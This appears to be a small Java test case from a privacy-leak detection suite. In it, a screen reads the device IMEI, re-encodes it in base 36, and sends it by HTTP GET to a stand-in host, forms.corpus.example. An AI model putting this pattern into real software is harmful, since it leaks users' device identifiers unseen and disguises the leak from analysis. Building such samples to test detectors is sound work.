package org.corpus;

import org.corpus.kit.Net;
import org.corpus.kit.Owner;
import org.corpus.kit.Screen;

/** The number, written otherwise. */
public class InBase36 extends Screen {
    @Override
    protected void act() throws Exception {
        Net.get(
                "http://forms.corpus.example/t/"
                        + Long.toString(Long.parseLong(Owner.imei(this)), 36));
    }
}
